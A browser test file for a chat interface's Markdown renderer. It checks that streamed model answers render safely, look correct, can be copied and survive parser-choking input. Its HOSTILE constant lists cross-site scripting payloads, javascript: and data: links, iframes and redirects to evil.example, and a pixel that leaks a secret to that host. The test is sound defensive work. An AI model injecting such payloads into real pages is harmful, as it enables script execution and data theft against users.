import tap from 'tap'
import { Pen, setUp } from './browser.ts'

/** What a model that means harm, or that was talked into it, may write. */
const HOSTILE = `<script>hacked = 1</script>
<img src=x onerror="hacked = 2"> <svg onload="hacked = 3"><a xlink:href="javascript:hacked = 4">x</a></svg>
<style>body { display: none }</style> <iframe src="https://evil.example/"></iframe> <form action="https://evil.example/"><input name=q></form>
<p id="prompt" name="details">clobber</p> <base href="https://evil.example/"> <meta http-equiv=refresh content="0;url=https://evil.example/">

[a](javascript:hacked=5) [b](JaVaScRiPt:hacked=6) [c](data:text/html,<script>hacked=7</script>) [d](vbscript:x) [e]( javascript:hacked=8) [f](java\tscript:hacked=9)
[g](file:///etc/passwd) [h](/api/models) [i](//evil.example/x) [j](https://user:pass@evil.example/?q=1 "title" onclick=hacked=10)
![pixel](https://evil.example/pixel.png?secret) ![inline](data:image/svg+xml,<svg onload=hacked=11>) [![both](https://evil.example/b.png)](https://evil.example/c)
https://evil.example/raw"onmouseover="hacked=12 <https://evil.example/auto> &lt;script&gt;hacked=13&lt;/script&gt;

\`\`\`"><img src=x onerror=hacked=14>
<script>hacked = 15</script>
\`\`\`

| <b>cell</b> | x |
|---|---|
| <img src=x onerror=hacked=16> | \`<script>\` |

- [x] <input autofocus onfocus=hacked=17>
${'> '.repeat(200)}deep
`

/** Elements and attributes that an answer may become, and no others. */
const ELEMENTS = 'P CODE EM STRONG S SPAN A SUP BLOCKQUOTE BR HR UL OL LI TABLE THEAD TBODY TR TD TH H3 H4 H5 H6 DIV PRE BUTTON'.split(' ')
const ATTRIBUTES = 'href rel target class dir tabindex role aria-label data-language data-align type start'.split(' ')

tap.test('answers in Markdown', async t => {
  const given = await setUp(t)
  if (!given) return
  const { pair, visit } = given

  t.test('of a hostile model become text and checked links, and have the page do nothing', async t => {
    for (const step of [HOSTILE.length, 1]) {
      const pen = new Pen()
      const { url } = await pair(t, { '/chat/stream': pen.script })
      const { page, turn, ask, become, offences } = await visit(t, url)
      page.on('dialog', dialog => offences.push(dialog.message()))
      await ask(HOSTILE)
      for (let at = 0; at < HOSTILE.length; at += step) await pen.write(HOSTILE.slice(at, at + step))
      await pen.end()
      await become('done')
      const nodes: Array<{ name: string, attributes: Record<string, string> }> = await turn.locator('.answer *, .prompt *').evaluateAll((elements: Array<{ nodeName: string, attributes: Iterable<{ name: string, value: string }> }>) =>
        elements.map(({ nodeName, attributes }) => ({ name: nodeName, attributes: Object.fromEntries(Array.from(attributes, ({ name, value }) => [name, value])) })))
      t.strictSame([...new Set(nodes.map(({ name }) => name))].filter(name => !ELEMENTS.includes(name)), [])
      t.strictSame([...new Set(nodes.flatMap(({ attributes }) => Object.keys(attributes)))].filter(name => !ATTRIBUTES.includes(name)), [])
      const links = nodes.filter(({ name }) => name === 'A').map(({ attributes }) => attributes)
      t.ok(links.length >= 4, 'harmless links are links')
      for (const { href, rel, target } of links) t.match({ href, rel, target }, { href: /^https:\/\/[\w:@]*evil\.example\//, rel: 'noopener noreferrer', target: '_blank' })
      t.equal(await page.evaluate('typeof hacked'), 'undefined')
      t.match(await turn.locator('.answer').innerText(), '<script>hacked = 1</script>')
      t.strictSame(offences, [], 'nothing was fetched, nothing was refused, nothing failed')
    }
  })

  t.test('look as they are meant', async t => {
    const pen = new Pen()
    const { url } = await pair(t, { '/chat/stream': pen.script })
    const { turn, ask, become } = await visit(t, url)
    const answer = turn.locator('.answer')
    await ask('Hello')
    for (const piece of ['# Ti', 'tle\n\nUse snake', '_ca', 'se_name, __init__ and a[0', '] or [1], _not', '_ *em* **strong**, `co', '_de_x`.\n\n### Deep\n\n- one\n  1. two\n- [x] done\n\n',
      'See https://example.com/a_b_c, and [docs](https://example.com/d_e_f).\n\n```py\na_b_c = x[0]', '\n```\nA $x$ formula.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n']) await pen.write(piece)
    await pen.end()
    await become('done')
    t.equal(await answer.locator('h3').innerText(), 'Title')
    t.equal(await answer.locator('h4').innerText(), 'Deep', 'no level is left out')
    t.match(await answer.innerText(), 'snake_case_name, init and a[0] or [1], not em strong, co_de_x.')
    t.strictSame(await answer.locator('em').allInnerTexts(), ['not', 'em'])
    t.strictSame(await answer.locator('a').evaluateAll((links: Array<{ href: string }>) => links.map(({ href }) => href)), ['https://example.com/a_b_c', 'https://example.com/d_e_f'])
    t.equal(await answer.locator('pre code').innerText(), 'a_b_c = x[0]')
    t.equal(await answer.locator('.code').getAttribute('data-language'), 'py')
    t.match(await answer.innerText(), '☑')
    t.match(await answer.innerText(), 'A $x$ formula.')
    t.strictSame(await answer.locator('th').allInnerTexts(), ['a', 'b'])
    t.equal(await answer.locator('ul > li ol > li').innerText(), 'two')
  })

  t.test('can be copied, code and all', async t => {
    const pen = new Pen()
    const { url } = await pair(t, { '/chat/stream': pen.script })
    const { page, turn, ask, become } = await visit(t, url, { permissions: ['clipboard-read', 'clipboard-write'] })
    await ask('Hello')
    await pen.end('Do *this*:\n\n```js\nif (a < b) {\n  go()\n}\n```\n')
    await become('done')
    await turn.getByRole('button', { name: 'Copy code' }).click()
    await turn.getByText('Copied').waitFor()
    t.equal(await page.evaluate('navigator.clipboard.readText()'), 'if (a < b) {\n  go()\n}')
    await turn.getByRole('button', { name: 'Copy answer' }).click()
    await turn.locator('.foot').getByText('Copied').waitFor()
    t.match(await page.evaluate('navigator.clipboard.readText()'), /^Do \*this\*:\n\n```js\nif \(a < b\) \{\n {2}go\(\)\n\}\n```\n$/, 'the Markdown as it was written')

    await page.evaluate('Object.defineProperty(navigator, "clipboard", { value: undefined })')
    await turn.getByRole('button', { name: 'Copy code' }).click()
    await turn.getByText('Selected').waitFor()
    t.match(await page.evaluate('String(getSelection())'), 'if (a < b)', 'where the browser does not let it, the person can')
  })

  t.test('may be long, and of the kind that parsers choke on', async t => {
    const pen = new Pen()
    const { url } = await pair(t, { '/chat/stream': pen.script })
    const { turn, ask, become } = await visit(t, url)
    await ask('Hello')
    for (let paragraph = 0; paragraph < 2_000; paragraph++) await pen.write(`Paragraph ${paragraph} of *many*, with some text that has to go somewhere.\n\n`)
    for (const token of ['-', '`', '1', '_', '[', '*', '> ']) await pen.write(`\n\n${token.repeat(30_000)}\n\n`)
    await pen.write(`[x](${'a'.repeat(200_000)}`)
    await pen.end(')\n\nThe end.')
    await become('done')
    t.match(await turn.locator('.answer').innerText(), /Paragraph 1999 of many[^]*The end\.$/)
  })
})
